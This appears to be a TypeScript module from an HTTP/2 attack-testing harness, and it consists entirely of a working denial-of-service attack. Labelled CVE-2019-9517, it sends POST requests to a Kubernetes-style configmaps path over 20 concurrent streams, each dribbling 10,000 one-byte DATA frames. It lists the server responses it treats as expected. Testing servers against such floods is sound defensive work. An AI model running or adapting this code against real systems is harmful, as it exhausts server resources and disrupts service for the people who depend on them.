// A body in frames of one byte.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2019-9517, dribbled bodies',
  does: 'sends bodies of one byte a frame',
  who: ['known', 'unknown'],
  answers: [
    '200',
    '401',
    '403',
    '408',
    '413',
    'RST_STREAM NO_ERROR',
    'RST_STREAM CANCEL',
    'RST_STREAM STREAM_CLOSED',
    'RST_STREAM FLOW_CONTROL_ERROR',
    'GOAWAY FLOW_CONTROL_ERROR',
    'GOAWAY STREAM_CLOSED',
    'RST_STREAM REFUSED_STREAM',
  ],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const post = request(head(target, 'POST', '/api/v1/namespaces/default/configmaps'), 0)
      const bytes = 10_000
      return closedLoop(connection, 20, (stream) =>
        Buffer.concat([
          post(stream),
          ...new Array<Buffer>(bytes).fill(h2.data(stream, 'x')),
          h2.data(stream, 'x', h2.END_STREAM),
        ]),
      )
    }),
}
